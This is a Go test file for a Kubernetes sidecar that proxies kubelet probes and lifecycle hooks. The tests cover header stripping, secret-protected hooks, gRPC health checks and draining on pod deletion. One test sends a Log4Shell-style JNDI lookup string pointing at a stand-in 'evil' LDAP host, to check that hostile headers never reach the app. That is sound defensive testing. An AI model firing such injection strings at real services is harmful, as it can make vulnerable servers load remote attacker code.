package sidecar_test

import (
	"errors"
	"io"
	"net"
	"net/http"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"google.golang.org/grpc"
	"google.golang.org/grpc/health"
	"google.golang.org/grpc/health/grpc_health_v1"
)

// kubelet asks the probe port, with a header that no stranger may get to the app.
func (w *world) kubelet(path string) answer {
	w.Helper()
	return w.send("GET", "http://"+w.podIP+":15021"+path, "", "", "X-Auth-Subject: mallory")
}

func TestAnHTTPProbeHasTheHeadersOfItsAuthorAlone(t *testing.T) {
	w := newWorld(t)
	asked := make(chan *http.Request, 1)
	w.serveApp(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { asked <- r }))
	w.start(`--probe=app/startup={"protocol":"http","port":8080,"path":"/up","headers":[{"name":"host","value":"shop.example"},{"name":"X-Key","value":"a"},{"name":"user-agent","value":"me"}]}`)
	if got := w.kubelet("/app/startup?path=/admin").Status; got != http.StatusOK {
		t.Errorf("got %d, want 200", got)
	}
	r := <-asked
	if r.Host != "shop.example" || r.RequestURI != "/up" || r.Header.Get("X-Key") != "a" || r.UserAgent() != "me" || r.Header.Get("X-Auth-Subject") != "" {
		t.Errorf("the app was asked %s of %s with %v", r.RequestURI, r.Host, r.Header)
	}
}

func TestWhoeverAsksAProbeTellsTheAppNothing(t *testing.T) {
	w := newWorld(t)
	asked := make(chan *http.Request, 1)
	w.serveApp(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { asked <- r }))
	w.start(`--probe=app/startup={"protocol":"http","port":8080,"path":"/up"}`)
	got := w.send("GET", "http://"+w.podIP+":15021/app/startup?x=${jndi:ldap://evil}", "stolen", "hush",
		"User-Agent: ${jndi:ldap://evil}", "Accept: evil", "X-Forwarded-For: evil", "Referer: evil", "Cookie: evil=1", "Traceparent: evil")
	if got.Status != http.StatusOK {
		t.Errorf("got %d, want 200", got.Status)
	}
	r := <-asked
	if diff := cmp.Diff(r.Header, http.Header{"User-Agent": {"kube-probe/latchkey"}, "Accept": {"*/*"}, "Connection": {"close"}}); diff != "" {
		t.Errorf("got -, want + of the headers at the app:\n%s", diff)
	}
	if r.RequestURI != "/up" || r.ContentLength != 0 {
		t.Errorf("got %s with %d bytes at the app, want /up without a body", r.RequestURI, r.ContentLength)
	}
}

// The kubelet verifies no certificate, and asks in HTTP/2 where the app offers it.
func TestAnHTTPSProbeAsksOverTLS(t *testing.T) {
	for _, http2 := range []bool{false, true} {
		w := newWorld(t)
		w.serveTLSApp(newCertificate(t, 1), http2)
		w.start(`--probe=app/liveness={"protocol":"https","port":8080,"path":"/live"}`, `--probe=app/readiness={"protocol":"http","port":8080,"path":"/live"}`)
		if got := w.kubelet("/app/liveness").Status; got != http.StatusOK {
			t.Errorf("HTTP/2 %t: got %d, want 200", http2, got)
		}
		if got := w.kubelet("/app/readiness").Status; got == http.StatusOK {
			t.Errorf("HTTP/2 %t: without TLS: got 200", http2)
		}
	}
}

func TestATCPProbeAsksWhetherTheAppListens(t *testing.T) {
	w := newWorld(t)
	w.start(`--probe=app/liveness={"protocol":"tcp","port":8080}`)
	if got := w.kubelet("/app/liveness").Status; got != http.StatusBadGateway {
		t.Errorf("without an app: got %d, want 502", got)
	}
	w.serveApp(http.NotFoundHandler())
	if got := w.kubelet("/app/liveness").Status; got != http.StatusOK {
		t.Errorf("got %d, want 200", got)
	}
}

func TestAGRPCProbeAsksForOneService(t *testing.T) {
	w := newWorld(t)
	w.start(`--probe=app/liveness={"protocol":"grpc","port":8080}`, `--probe=app/readiness={"protocol":"grpc","port":8080,"service":"shop.Cart"}`,
		`--probe=app/startup={"protocol":"grpc","port":8080,"service":"unknown"}`)
	want := func(path string, status int) {
		t.Helper()
		if got := w.kubelet(path).Status; got != status {
			t.Errorf("%s: got %d, want %d", path, got, status)
		}
	}
	want("/app/liveness", http.StatusBadGateway)

	listener, err := net.Listen("tcp", w.appIP+":"+port)
	check(t, err)
	server, service := grpc.NewServer(), health.NewServer()
	grpc_health_v1.RegisterHealthServer(server, service)
	go func() { _ = server.Serve(listener) }()
	t.Cleanup(server.Stop)
	service.SetServingStatus("shop.Cart", grpc_health_v1.HealthCheckResponse_NOT_SERVING)
	want("/app/liveness", http.StatusOK)
	want("/app/readiness", http.StatusServiceUnavailable)
	want("/app/startup", http.StatusBadGateway) // NOT_FOUND
	service.SetServingStatus("shop.Cart", grpc_health_v1.HealthCheckResponse_SERVING)
	want("/app/readiness", http.StatusOK)
}

func TestAnAppThatSpeaksNoGRPCIsNotServing(t *testing.T) {
	w := newWorld(t)
	w.serveApp(http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		_, _ = io.WriteString(rw, "\x00\x00\x00\x00\x02\x08\x01")
	}))
	w.start(`--probe=app/liveness={"protocol":"grpc","port":8080}`)
	if got := w.kubelet("/app/liveness").Status; got != http.StatusBadGateway {
		t.Errorf("got %d, want 502", got)
	}
}

func TestAHookNeedsThePodsSecret(t *testing.T) {
	w := newWorld(t)
	calls := make(chan string, 10)
	w.serveApp(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { calls <- r.RequestURI }))
	w.start(`--probe=app/preStop={"protocol":"http","port":8080,"path":"/stop"}`, `--probe=app/liveness={"protocol":"http","port":8080,"path":"/"}`,
		"--hook-secret=hush")
	for _, path := range []string{"/app/preStop", "/app/preStop/", "/app/preStop/hus", "/app/preStop/hush2", "/app/liveness/hush", "/latchkey/preStop", "/latchkey/preStop/x"} {
		if got := w.kubelet(path).Status; got != http.StatusNotFound {
			t.Errorf("%s: got %d, want 404", path, got)
		}
	}
	if got := w.kubelet("/app/preStop/hush").Status; got != http.StatusOK {
		t.Errorf("got %d, want 200", got)
	}
	if got := <-calls; got != "/stop" || len(calls) > 0 {
		t.Errorf("the app got %s and %d others, want /stop alone", got, len(calls))
	}
	if got := w.admin("/readyz").Body; got == "draining\n" {
		t.Error("the pod is leaving, though nobody told it to with its secret")
	}
}

// Of a hook the kubelet reads no status: what the app was never asked would count as done.
func TestAHookThatDoesNotReachTheAppIsNotAnswered(t *testing.T) {
	w := newWorld(t)
	w.start(`--probe=app/preStop={"protocol":"http","port":8080,"path":"/stop"}`, "--hook-secret=hush")
	request, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://"+w.podIP+":15021/app/preStop/hush", nil)
	check(t, err)
	response, err := http.DefaultClient.Do(request)
	if err == nil {
		_ = response.Body.Close()
		t.Errorf("got %d, want no answer", response.StatusCode)
	}
}

func TestThePostStartHookWaitsUntilTheAppListens(t *testing.T) {
	w := newWorld(t)
	w.start(`--probe=app/postStart={"protocol":"http","port":8080,"path":"/started"}`, "--hook-secret=hush")
	answered := make(chan answer, 1)
	go func() { answered <- w.kubelet("/app/postStart/hush") }()
	for range 10 { // the app takes its time
		if got := w.admin("/readyz").Status; got != http.StatusServiceUnavailable {
			t.Errorf("readyz: got %d, want 503", got)
		}
	}
	calls := make(chan string, 1)
	w.serveApp(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { calls <- r.RequestURI }))
	if got := (<-answered).Status; got != http.StatusOK {
		t.Errorf("got %d, want 200", got)
	}
	if got := <-calls; got != "/started" {
		t.Errorf("the app was asked %s, want /started", got)
	}
}

func TestReadyMeansThatTheAppListens(t *testing.T) {
	w := newWorld(t)
	w.mount(w.bundle())
	w.start("--port=9090")
	if got := w.admin("/readyz"); got.Status != http.StatusServiceUnavailable {
		t.Errorf("without an app: got %d %s, want 503", got.Status, got.Body)
	}
	stop := w.serveApp(http.NotFoundHandler()) // on one of the two ports
	if got := w.admin("/readyz"); got.Status != http.StatusOK {
		t.Errorf("got %d %s, want 200", got.Status, got.Body)
	}
	stop()
	if got := w.admin("/readyz"); got.Status != http.StatusServiceUnavailable {
		t.Errorf("after the app: got %d %s, want 503", got.Status, got.Body)
	}
}

func TestAPodThatIsBeingDeletedSendsCallersElsewhereAndServesOn(t *testing.T) {
	w := newWorld(t)
	w.serveApp(http.HandlerFunc(echo))
	w.mount(w.bundle())
	w.start("--hook-secret=hush")
	idle := w.dial() // has asked before, and is kept
	ask := func(connection io.ReadWriter) {
		t.Helper()
		_, err := io.WriteString(connection, "GET /public HTTP/1.1\r\nHost: app\r\n\r\n")
		check(t, err)
		_, err = connection.Read(make([]byte, 4<<10))
		check(t, err)
	}
	ask(idle)

	told := time.Now()
	if got := w.kubelet("/latchkey/preStop/hush").Status; got != http.StatusOK {
		t.Fatalf("got %d, want 200", got)
	}
	if took := time.Since(told); took > 500*time.Millisecond {
		t.Errorf("the hook was answered after %s, want at once", took)
	}
	if got := w.admin("/readyz").Status; got != http.StatusServiceUnavailable {
		t.Errorf("readyz: got %d, want 503", got)
	}
	for range 3 {
		response, err := w.client.Get("http://" + w.podIP + ":" + port + "/public")
		check(t, err)
		if got := readAnswer(t, response); got.Status != http.StatusOK || !response.Close {
			t.Errorf("got %d with Connection: close %v, want 200 and true", got.Status, response.Close)
		}
	}
	_, err := idle.Read(make([]byte, 1))
	if took := time.Since(told); !errors.Is(err, io.EOF) || took < 900*time.Millisecond || took > 3*time.Second {
		t.Errorf("the idle connection got %v after %s, want to be closed after a second", err, took)
	}
	if got := w.do("GET", "/public", "").Status; got != http.StatusOK {
		t.Errorf("after that: got %d, want 200", got)
	}
	if got := w.kubelet("/latchkey/preStop/hush").Status; got != http.StatusOK {
		t.Errorf("told again: got %d, want 200", got)
	}
}
